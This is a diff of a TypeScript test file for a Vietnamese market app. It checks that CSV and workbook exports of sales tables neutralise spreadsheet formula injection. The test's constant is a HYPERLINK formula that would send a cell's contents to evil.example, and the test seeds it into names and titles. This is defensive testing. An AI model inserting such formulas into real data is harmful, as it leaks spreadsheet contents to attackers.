@@ -8,6 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Stall } from '../../tests/fixtures/stall';
 import { listChanges } from '../audit/list-changes';
 import type { Context } from '../context';
+import { createSession } from '../market/sessions';
 import { answerExport } from './answer-export';
 
 const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
@@ -266,3 +267,83 @@ describe('everything', () => {
 		expect(after.entries[0]).toMatchObject({ accountId: 'somebody', after: { format: 'xlsx' } });
 	});
 });
+
+describe('each table of figures', () => {
+	const host = person(['host']);
+	const download = async (table: string, format: string) =>
+		bytesOf(await ask(host, 'market-figures', `table=${table}&format=${format}&${PERIOD}`));
+
+	beforeAll(async () => {
+		const { database, sql } = stall.db;
+		const { now, producer, honey } = stall;
+		const slots = [{ startsAt: now, minutes: 1, producerId: producer, productIds: [honey] }];
+		const times = { startsAt: now, endsAt: now + 60_000 };
+		const session = { slug: 'phien', title: FORMULA, intro: '', ...times, slots };
+		const { id: sessionId } = await createSession(database, session, now);
+		await stall.place(await stall.order({ sessionId, payment: 'vietqr' }));
+		await sql`update producers set name = ${FORMULA} where id = ${stall.neighbour}`;
+		await sql`update order_lines set name = ${FORMULA} where product_id = ${stall.tea}`;
+	});
+
+	it.each<[string, readonly (readonly (string | number | null)[])[]]>([
+		[
+			'products',
+			[
+				['Mật ong', 2, 2, 240_000],
+				[FORMULA, 1, 1, 90_000],
+			],
+		],
+		[
+			'producers',
+			[
+				['HTX Ong', 2, 240_000],
+				[FORMULA, 1, 90_000],
+			],
+		],
+		[
+			'sessions',
+			[
+				['Ngoài phiên', 2, 210_000],
+				[FORMULA, 1, 120_000],
+			],
+		],
+		['provinces', [['Hà Nội', 3, 330_000]]],
+		[
+			'sellerProvinces',
+			[
+				['Tuyên Quang', 2, 240_000],
+				['Thái Nguyên', 1, 90_000],
+			],
+		],
+		[
+			'money',
+			[
+				['Trả khi nhận (COD)', 2, 210_000, 0, 0, 0, 0],
+				['Chuyển khoản VietQR', 1, 120_000, 0, 0, 0, 0],
+			],
+		],
+		[
+			'sets',
+			[
+				[4, 'Mật ong, mật khác và nông sản thực phẩm khác', 2, 240_000],
+				[11, 'Chè tươi, chè chế biến', 1, 90_000],
+			],
+		],
+		['stars', [[4, 3, 330_000]]],
+	])(
+		'%s says the same as CSV and as a workbook, and leaves no formula in either',
+		async (table, rows) => {
+			const csv = (await download(table, 'csv')).toString();
+			const [, ...lines] = csv.replace('\uFEFF', '').trimEnd().split('\r\n');
+			// In a CSV a quote stands before what a spreadsheet would reckon; a workbook says it is a text.
+			expect(lines).toEqual(rows.map((row) => row.map(inCsv).join(';')));
+			const book = (await readXlsxFile(await download(table, 'xlsx')))[0]?.data ?? [];
+			expect(book.slice(1)).toEqual(rows);
+		},
+	);
+});
+
+const inCsv = (value: string | number | null) =>
+	value === FORMULA
+		? `"'${value.replaceAll('"', '""')}"`
+		: String(value ?? '').replace(/^.*,.*$/, '"$&"');
